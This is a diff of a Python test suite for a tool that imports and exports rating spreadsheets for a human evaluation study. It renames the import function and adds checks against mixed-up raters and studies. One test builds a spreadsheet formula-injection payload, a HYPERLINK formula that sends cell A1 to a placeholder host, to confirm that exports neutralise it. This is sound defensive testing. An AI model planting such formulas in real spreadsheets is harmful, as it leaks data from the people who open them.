@@ -9,6 +9,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from got_r1.audit.kits import kits
 from got_r1.audit.sheets import (
     _escape,
     _Faults,
@@ -16,7 +17,7 @@ from got_r1.audit.sheets import (
     _unescape,
     blank_sheet,
     export_sheet,
-    import_sheet,
+    import_sheets,
     read_items,
     read_ratings,
 )
@@ -28,6 +29,10 @@ from got_r1.errors import BadInput
 def study(make_run, tmp_path) -> Path:
     build_study([("ours", make_run("ours", steps=1))], tmp_path / "study", items=10)
     return tmp_path / "study"
+
+
+def import_one(study: Path, sheet: Path, rater: str | None = None, **how: bool) -> list[dict]:
+    return import_sheets(study, [sheet], rater, **how)
 
 
 def rows(path: Path) -> list[dict[str, str]]:
@@ -52,15 +57,15 @@ def filled(study: Path, rater: str = "ann", **scores: str) -> Path:
 
 
 def test_a_sheet_comes_back(study):
-    (taken,) = import_sheet(study, filled(study, comment="fine"))
-    assert taken == {"rater": "ann", "items": 10, "rated": 10, "missing": []}
+    (taken,) = import_one(study, filled(study, comment="fine"))
+    assert taken == {"rater": "ann", "items": 10, "rated": 10, "part": 0, "missing": []}
     ratings = read_ratings(study)["ann"]
     assert len(ratings) == 10
     assert ratings["003"] == {"semantic": 7, "spatial": 10, "quality": 0, "comment": "fine"}
     # Exported again it holds what was imported, and all raters stand in one file.
     assert export_sheet(study, study.parent / "again.csv", "ann") == 10
     assert {row["semantic"] for row in rows(study.parent / "again.csv")} == {"7"}
-    import_sheet(study, filled(study, "bob"))
+    import_one(study, filled(study, "bob"))
     assert export_sheet(study, study.parent / "all.csv") == 20
     assert {row["rater"] for row in rows(study.parent / "all.csv")} == {"ann", "bob"}
 
@@ -68,20 +73,20 @@ def test_a_sheet_comes_back(study):
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "'="])
 def test_no_cell_is_a_formula(start):
     text = f'{start}HYPERLINK("http://a.b?"&A1)'
-    sheet = blank_sheet([{"id": "001", "prompt": text}])
+    sheet = blank_sheet([{"id": "001", "prompt": text}], "s0")
     (row,) = csv.DictReader(io.StringIO(sheet, newline=""))
     assert row["prompt"] == f"'{text}"
 
 
 @pytest.mark.parametrize("comment", ["=1+1", "-2 for the star", "@ann", "'=1", "''+1", "'quoted'"])
 def test_comments_that_look_like_formulas_come_back(study, comment):
-    import_sheet(study, filled(study, comment=_escape(comment)))
+    import_one(study, filled(study, comment=_escape(comment)))
     again = study.parent / "again.csv"
     for _ in range(2):
         assert read_ratings(study)["ann"]["003"]["comment"] == comment
         export_sheet(study, again, "ann")
         assert not {row["comment"][0] for row in rows(again)} & set("=+-@")
-        import_sheet(study, again, replace=True)
+        import_one(study, again, replace=True)
 
 
 @given(st.text(alphabet="'=+-@\t\r\na1"))
@@ -108,7 +113,7 @@ def test_faults_are_listed_counted_and_nothing_is_taken(study):
     some[6]["quality"] = ""
     write(sheet, some)
     with pytest.raises(BadInput) as error:
-        import_sheet(study, sheet)
+        import_one(study, sheet)
     message = str(error.value)
     assert "1 unknown ids (777 in line 2)" in message
     assert f"1 items rated twice ({some[2]['id']} in line 4)" in message
@@ -124,18 +129,46 @@ def test_missing_ratings_need_a_word(study):
     some[0]["quality"] = " "
     write(sheet, some[:8])
     with pytest.raises(BadInput, match=r"3 items without all ratings .*give --partial"):
-        import_sheet(study, sheet)
-    (taken,) = import_sheet(study, sheet, partial=True)
-    assert taken["rated"] == 7
+        import_one(study, sheet)
+    (taken,) = import_one(study, sheet, partial=True)
+    assert (taken["rated"], taken["part"], len(taken["missing"])) == (7, 1, 3)
     assert some[0]["id"] in taken["missing"]
     assert read_ratings(study)["ann"][some[0]["id"]]["quality"] is None
 
 
+def test_sheets_of_others_are_refused_and_nothing_is_taken(study):
+    ann, bob = filled(study), filled(study, "bob")
+    with pytest.raises(BadInput, match=r"bob.csv holds the ratings of bob \(line 2\), not of ann"):
+        import_sheets(study, [ann, bob], "ann")
+    again = write(study.parent / "again.csv", rows(ann))
+    with pytest.raises(BadInput, match=r"ann.csv and .*again.csv both hold the ratings of ann"):
+        import_sheets(study, [ann, bob, again], replace=True)
+    other = write(study.parent / "other.csv", [row | {"study": "s0"} for row in rows(bob)])
+    with pytest.raises(BadInput, match=r"other.csv is a sheet of another study \(line 2: s0, this"):
+        import_sheets(study, [ann, other])
+    assert read_ratings(study) == {}
+    assert [one["rater"] for one in import_sheets(study, [ann, bob])] == ["ann", "bob"]
+
+
+def test_studies_of_before_open(study):
+    """They have no id and no rubrics, and their sheets no column for it."""
+    about = json.loads((study / "study.json").read_text())
+    del about["id"], about["rubrics"]
+    (study / "study.json").write_text(json.dumps(about))
+    sheet = filled(study)
+    assert rows(sheet)[0]["study"].startswith("s")
+    write(sheet, [{k: v for k, v in row.items() if k != "study"} for row in rows(sheet)])
+    assert import_one(study, sheet)[0]["rated"] == 10
+    (page,) = kits(study, ["ann"])
+    assert all("Marks:" in question["rubric"] for question in page["questions"])
+    assert page["ratings"]["001"]["semantic"] == 7
+
+
 def test_a_rater_is_not_overwritten_by_accident(study):
-    import_sheet(study, filled(study))
+    import_one(study, filled(study))
     with pytest.raises(BadInput, match="ann has rated already"):
-        import_sheet(study, filled(study, semantic="1"))
-    import_sheet(study, filled(study, semantic="1"), replace=True)
+        import_one(study, filled(study, semantic="1"))
+    import_one(study, filled(study, semantic="1"), replace=True)
     assert read_ratings(study)["ann"]["001"]["semantic"] == 1
 
 
@@ -144,7 +177,7 @@ def test_spreadsheets_change_ids_and_separators(study):
     write(
         sheet, [row | {"id": row["id"].lstrip("0"), "semantic": "7,0"} for row in rows(sheet)], ";"
     )
-    import_sheet(study, sheet)
+    import_one(study, sheet)
     assert read_ratings(study)["ann"]["001"]["semantic"] == 7
 
 
@@ -152,8 +185,8 @@ def test_the_rater_may_stand_on_the_command_line(study):
     sheet = filled(study)
     write(sheet, [{k: v for k, v in row.items() if k != "rater"} for row in rows(sheet)])
     with pytest.raises(BadInput, match=r"line 2 .* names no rater"):
-        import_sheet(study, sheet)
-    (taken,) = import_sheet(study, sheet, "cleo")
+        import_one(study, sheet)
+    (taken,) = import_one(study, sheet, "cleo")
     assert taken["rater"] == "cleo"
 
 
@@ -164,14 +197,14 @@ def test_names_of_raters_are_names(study, name):
     sheet = filled(study)
     write(sheet, [row | {"rater": name if name != "x\n" else "x y"} for row in rows(sheet)])
     with pytest.raises(BadInput, match="cannot be a rater's name"):
-        import_sheet(study, sheet)
+        import_one(study, sheet)
 
 
 @pytest.mark.parametrize("content", ["", "id,semantic\n1,2\n", "id,semantic,spatial,quality\n"])
 def test_files_that_are_no_sheets(study, content):
     (study.parent / "bad.csv").write_text(content)
     with pytest.raises(BadInput):
-        import_sheet(study, study.parent / "bad.csv", "ann")
+        import_one(study, study.parent / "bad.csv", "ann")
 
 
 @pytest.mark.parametrize(
@@ -186,7 +219,7 @@ def test_rows_that_do_not_fit_the_header_are_refused(study, row, told):
     path = study.parent / "bad.csv"
     path.write_text(f"id,rater,prompt,semantic,spatial,quality,comment\n{row}\n")
     with pytest.raises(BadInput, match=told):
-        import_sheet(study, path)
+        import_one(study, path)
 
 
 @given(st.text(max_size=6) | st.integers(-3, 13).map(str))
@@ -212,5 +245,5 @@ def test_a_prompt_may_hold_marks_that_end_lines_elsewhere(make_run, tmp_path, ma
     assert len(items) == 10
     assert all(item["prompt"].endswith(f"{mark}\ufffd") for item in items)
     export_sheet(tmp_path / "study", tmp_path / "sheet.csv", "ann")
-    (taken,) = import_sheet(tmp_path / "study", tmp_path / "sheet.csv", partial=True)
+    (taken,) = import_one(tmp_path / "study", tmp_path / "sheet.csv", partial=True)
     assert taken["items"] == 10
